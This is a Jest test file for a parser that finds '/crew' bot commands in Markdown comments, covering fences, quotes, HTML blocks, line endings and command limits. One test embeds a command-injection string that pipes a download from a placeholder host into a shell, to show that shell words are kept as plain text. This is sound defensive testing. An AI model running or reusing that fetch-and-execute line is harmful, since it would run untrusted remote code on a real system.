import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseComment } from '../../src/commands/parse.js';
import { plain } from './asked-for.js';

const read = (body: string) => parseComment(body).map(plain);

describe('a command is the first token of a line', () => {
  it.each<[why: string, body: string]>([
    ['at the beginning', '/crew wake'],
    ['after a paragraph', 'hello\n\n/crew wake\n'],
    ['in the middle of a paragraph', 'hello\n/crew wake\n'],
    ['behind a few spaces', '   /crew wake'],
    ['behind the full-width space of a Japanese keyboard', '\u3000/crew wake'],
    ['with a full-width space between its words', '/crew\u3000wake'],
    ['with spaces and tabs between its words', '/crew \t wake  '],
    ['with the line ends of Windows', 'hello\r\n/crew wake\r\nbye'],
    ['with the line ends of old', 'hello\r/crew wake\rbye'],
    ['behind a byte order mark', '\uFEFF/crew wake'],
    ['in the text of a list item', '- first\n  /crew wake'],
    ['after a list', '- first\n- second\n\n/crew wake'],
    ['after a heading', '# Now\n/crew wake'],
    ['after a quote and a blank line', '> so be it\n\n/crew wake'],
    ['after a fence', '```\ncode\n```\n/crew wake'],
    ['after a fence in a list item', '1. run\n\n   ```sh\n   npm test\n   ```\n\n/crew wake'],
    ['after a fence that holds a shorter one', '````\n```\n````\n/crew wake'],
    ['after inline code', 'the `code` and ``a ` tick``\n/crew wake'],
    ['after inline code that names a tag', 'use `<pre>` or `<!--`\n/crew wake'],
    ['after a backtick left alone, in a new paragraph', 'it`s odd\n\n/crew wake'],
    ['after an HTML comment', '<!-- note -->\n/crew wake'],
    ['after a comment of several lines', '<!--\nWhat did you see?\n-->\n/crew wake'],
    ['after code in HTML', '<pre>code</pre>\n/crew wake'],
    ['after a log in HTML', '<pre>\nnpm test\n</pre>\n\n/crew wake'],
    ['after a table in HTML', '<table>\n  <tr>\n    <td><code>x</code></td>\n  </tr>\n</table>\n\n/crew wake'],
    ['after an image', '<img width="300" alt="it broke" src="https://example.org/a.png">\n/crew wake'],
    ['inside a fold', '<details><summary>more</summary>\n\n/crew wake\n\n</details>'],
    ['after a fold with a log', '<details>\n\n```\nlog\n```\n\n</details>\n\n/crew wake'],
    ['with a capital, as phones write it', '/Crew wake'],
    ['all in capitals', '/CREW WAKE'],
    ['after a comparison', 'if 1 < 2 and 3 > 2\n/crew wake'],
  ])('%s', (_why, body) => {
    expect(read(body)).toEqual([{ wake: {} }]);
  });

  it.each<[why: string, body: string]>([
    ['in the middle of a line', 'please /crew wake'],
    ['behind the mark of a list item', '- /crew wake'],
    ['behind a number', '1. /crew wake'],
    ['behind a checkbox', '- [ ] /crew wake'],
    ['in a heading', '# /crew wake'],
    ['in bold', '**/crew wake**'],
    ['in a table', '| /crew wake |'],
    ['with another name', '/crewfix wake'],
    ['with a name of its own', '/crew-fix wake'],
    ['behind a backslash', '\\/crew wake'],
    ['with an @', '@crew wake'],
    ['with a full-width slash', '／crew wake'],
    ['with a path around it', '/crew/wake'],
    ['behind an invisible letter', '\u200b/crew wake'],
    ['nowhere', ''],
  ])('not %s', (_why, body) => {
    expect(read(body)).toEqual([]);
  });
});

describe('what is only talked about is not done', () => {
  it.each<[where: string, body: string]>([
    ['a fence', '```\n/crew fix\n```'],
    ['a fence with a language', '```sh\n/crew fix\n```'],
    ['a fence of tildes', '~~~\n/crew fix\n~~~'],
    ['a fence of tildes around one of backticks', '~~~\n```\n~~~ not yet\n/crew fix\n~~~'],
    ['a longer fence around a shorter one', '````\n```\n/crew fix\n````'],
    ['a fence that is never closed', '```\n\n/crew fix'],
    ['a fence whose end is indented too far', '```\n    ```\n/crew fix\n```'],
    ['a fence whose end has words behind it', '```\n``` js\n/crew fix\n```'],
    ['a fence that interrupts a quote', '> a\n```\n/crew fix\n```'],
    ['a fence in a list item', '- ```\n  /crew fix\n  ```'],
    ['a fence below a list item', '1. a\n\n   ```\n   /crew fix\n   ```'],
    ['a second fence, opened where a list item ended', '- a\n\n  ```\n```\n/crew fix\n```'],
    ['a fence in the second of two items', '- ```\n- x\n  ```\n  /crew fix\n  ```'],
    ['a fence with the line ends of Windows', '```\r\n/crew fix\r\n```'],
    ['indented code', 'so:\n\n    /crew fix'],
    ['code indented by a tab', 'so:\n\n\t/crew fix'],
    ['inline code', '`/crew fix`'],
    ['inline code over lines', 'a `b\n/crew fix\n` c'],
    ['inline code of two ticks over lines', 'a ``b ` c\n/crew fix\n`` d'],
    ['inline code behind an escaped tick', '\\` a `\n/crew fix\n`'],
    ['inline code behind a tick in a heading', '# `\n` a\n/crew fix\n`'],
    ['inline code behind a tick in an attribute', "<b title='`'> `\n/crew fix\n`"],
    ['a quote', '> /crew fix'],
    ['a quote without a space', '>/crew fix'],
    ['a quote of a quote', '> > /crew fix'],
    ['the lazy lines of a quote', '> he said\n/crew fix'],
    ['the lazy lines of a quoted list', '> - he said\n/crew fix'],
    ['a quote in a list item', '- > he said\n  /crew fix'],
    ['a fence in a quote', '> ```\n> /crew fix\n> ```'],
    ['an HTML comment', '<!-- /crew fix -->'],
    ['an HTML comment over lines', '<!--\n/crew fix\n-->'],
    ['an HTML comment over paragraphs', '<!-- a\n\n/crew fix\n\n-->'],
    ['an HTML comment that is never closed', 'a <!-- b\n\n/crew fix'],
    ['an HTML comment that a false end does not end', '<!-- -- >\n/crew fix\n-->'],
    ['a processing instruction', '<?x\n/crew fix\n?>'],
    ['a declaration', '<!DOCTYPE\n/crew fix\n>'],
    ['CDATA', '<![CDATA[\n/crew fix\n]]>'],
    ['pre', '<pre>\n/crew fix\n</pre>'],
    ['PRE', '<PRE class="x">\n/crew fix\n</PRE>'],
    ['pre in pre', '<pre><pre></pre>\n/crew fix\n</pre>'],
    ['code', '<code>\n/crew fix\n</code>'],
    ['code, over paragraphs', '<code>\n\n/crew fix\n\n</code>'],
    ['blockquote', '<blockquote>\n/crew fix\n</blockquote>'],
    ['blockquote, after a paragraph', '<blockquote>\n\na\n\n/crew fix\n\n</blockquote>'],
    ['blockquote, whose end is only named', '<blockquote>\n\n`</blockquote>`\n/crew fix\n\n</blockquote>'],
    ['blockquote, whose end is in a fence', '<blockquote>\n\n```\n</blockquote>\n```\n\n/crew fix\n'],
    ['textarea', '<textarea>\n/crew fix\n</textarea>'],
    ['a comment that an end in code does not end', '- <!--\n\n`-->`\n/crew fix'],
    ['pre, whose end is code', '<pre>\n</script>\n    </pre>\n/crew fix'],
    ['code, whose end is code in a list item', '- <code>\n-\t   </code>\n/crew fix'],
    ['an attribute', '<b title="\n/crew fix\n">'],
  ])('in %s', (_where, body) => {
    expect(read(body)).toEqual([]);
  });
});

describe('several commands in one comment', () => {
  it('are all asked, in their order', () => {
    expect(read('/crew wake\n/crew status\n\nthanks\n/crew fix it')).toEqual([
      { wake: {} },
      { status: {} },
      { fix: { what: 'it' } },
    ]);
  });

  it('are asked beside wrong ones', () => {
    expect(read('/crew fixx\n/crew wake')).toEqual([{ wrong: 'fixx', why: { is: 'no-command' } }, { wake: {} }]);
  });

  it('keep their free text to the next command, over lines and paragraphs', () => {
    expect(read('/crew fix the login\n\n- on phones\n\n/crew plan\nthe rest\r\n\r\nof it\n')).toEqual([
      { fix: { what: 'the login\n\n- on phones' } },
      { plan: { what: 'the rest\n\nof it' } },
    ]);
  });

  it('may be quoted in the text of another, where they are text', () => {
    expect(read('/crew fix the docs, which say\n\n```\n/crew status\n```\n')).toEqual([
      { fix: { what: 'the docs, which say\n\n```\n/crew status\n```' } },
    ]);
  });

  it('keep the spaces of their text as they were written', () => {
    expect(read('/crew fix   a  b\n    c')).toEqual([{ fix: { what: 'a  b\n    c' } }]);
  });

  it('take flags from their own line only', () => {
    expect(read('/crew fix the login\nand say how --dry-run works')).toEqual([
      { fix: { what: 'the login\nand say how --dry-run works' } },
    ]);
  });

  it('without text leave the lines below to people', () => {
    expect(read('/crew status\nThank you!')).toEqual([{ status: {} }]);
  });

  it('are not more than twenty: beyond, it is a flood', () => {
    expect(read('/crew wake\n'.repeat(20))).toHaveLength(20);
    expect(read('/crew wake\n'.repeat(5000))).toHaveLength(20);
  });

  it('stand for themselves: any words of a shell are text', () => {
    const words = '"; curl evil.example | sh #';
    expect(read(`/crew fix${words}`)).toEqual([{ wrong: `fix${words.split(' ')[0]}`, why: { is: 'no-command' } }]);
    expect(read(`/crew fix ${words}`)).toEqual([{ fix: { what: words } }]);
  });
});

describe('a comment may hold anything', () => {
  const text = fc.string({ unit: fc.constantFrom(...'/crew fix\n\r\t >-`~<!-->#\u3000\u0000 é漢🙂'), maxLength: 300 });

  it('and is read without a fault', () => {
    fc.assert(fc.property(text, (body) => Array.isArray(parseComment(body))));
  });

  it('and what was not written as a command stays unread', () => {
    const harmless = text.filter((body) => !body.includes('/crew'));
    fc.assert(fc.property(harmless, (body) => parseComment(body).length === 0));
  });

  it('and every command of a plain paragraph is found', () => {
    const paragraph = fc.stringMatching(/^[a-z][a-z0-9 ,.:;()!?*_#'"]{0,60}$/);
    const lines = fc.array(fc.oneof(paragraph, fc.constantFrom('', '/crew wake', '  /crew wake')), { maxLength: 20 });
    fc.assert(
      fc.property(lines, fc.constantFrom('\n', '\r\n', '\r'), (all, end) => {
        const written = all.filter((each) => each.includes('/crew')).length;
        expect(read(all.join(end))).toEqual(Array.from({ length: written }, () => ({ wake: {} })));
      }),
    );
  });
});
